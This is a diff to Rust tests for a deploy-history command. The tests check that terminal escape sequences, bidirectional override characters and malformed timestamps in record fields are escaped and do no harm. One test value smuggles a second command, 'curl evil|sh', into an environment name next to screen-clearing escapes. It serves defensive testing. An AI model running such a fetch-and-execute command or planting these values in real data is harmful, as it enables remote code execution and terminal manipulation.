@@ -108,17 +108,19 @@ fn what_would_act_on_a_terminal_is_shown_and_does_not_act() {
     let [one, two] = [1, 2].map(|nth| deploy.nth(nth));
     let evil = "Ev\u{1b}[2Jil\u{9b}1m \u{202e}Ada";
     let mut record = Record::default();
-    record.add(evil, NOON, &proposed(evil, two, evil, one));
-    record.add(evil, NOON, &promoted(evil, one, two, 1, &[evil, "\u{1b}]0;owned\u{7}", "two\n lines"]));
+    record.add(evil, NOON, &proposed("staging", two, "production", one));
+    record.add(evil, NOON, &promoted("production", one, two, 1, &[evil, "\u{1b}]0;owned\u{7}", "two\n lines"]));
+    // No environment can be called so.
+    record.add(evil, NOON, &promoted(evil, one, two, 1, &[]));
     record.put(&deploy);
     let shown = "Ev\\x1b[2Jil\\x9b1m \\u202eAda";
     let run = deploy.smp(&["history", "--stats"]);
+    run.says("warning: 1 event of the record cannot be read");
     let expected = format!("{shown}, signed off by {shown}, \\x1b]0;owned\\x07, two\\x0alines\n");
-    run.ok().prints_among(&expected).prints_among(&format!("2022-03-02 12:00  {shown}  "));
-    run.prints_among(&format!("\n{shown}: 1 promotion and 0 rollbacks since 2022-03-02\n"));
+    run.ok().prints_among(&expected).prints_among("2022-03-02 12:00  production  ");
+    run.prints_among("\nproduction: 1 promotion and 0 rollbacks since 2022-03-02\n");
     let json = deploy.smp(&["history", "--stats", "--json"]);
     assert_eq!(json.ok().json()["deploys"][0]["by"], evil);
-    assert_eq!(json.json()["stats"]["environments"][1]["environment"], evil);
     let screen = deploy.runner().env("NO_COLOR", "1").terminal(&["history", "--stats"]).ends().ok().stderr.clone();
     for out in [run.out(), json.out(), screen.replace('\r', "")] {
         let acts = |c: char| (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}');
@@ -150,11 +152,8 @@ fn what_was_seen_is_told_whatever_its_names_and_clocks() {
     };
     let mut record = Record::default();
     record.add("Ada Example", NOON, &promoted("production", one, two, 1, &[]));
-    record.add(
-        "Ada \u{202e}Example",
-        4_102_444_800,
-        &seen("production; curl evil|sh #\u{1b}[2J", "-9223372036854775808"),
-    );
+    record.add("Ada \u{202e}Example", 4_102_444_800, &seen("production", "-9223372036854775808"));
+    record.add("Ada Example", NOON, &seen("production; curl evil|sh #\u{1b}[2J", "0"));
     record.add("Ada Example", NOON + 60, &seen("production", "9223372036854775807"));
     record.add("Ada Example", NOON + 120, &seen("production", &(NOON + 60).to_string()));
     for garbage in ["soon", "9223372036854775808", ""] {
@@ -163,7 +162,7 @@ fn what_was_seen_is_told_whatever_its_names_and_clocks() {
     record.put(&deploy);
     let run = deploy.smp(&["history", "--stats"]);
     crate::record::is_harmless(&run);
-    run.ok().says("3 events of the record cannot be read");
+    run.ok().says("4 events of the record cannot be read");
     run.prints_among("seen by Ada Example, deployed past git smp before 2022-03-02 12:01\n");
     run.prints_among("seen by Ada Example, deployed past git smp between 2022-03-02 12:01 and 12:02\n");
     run.prints_among("deployed past git smp between an impossible date and 2100-01-01 00:00\n");
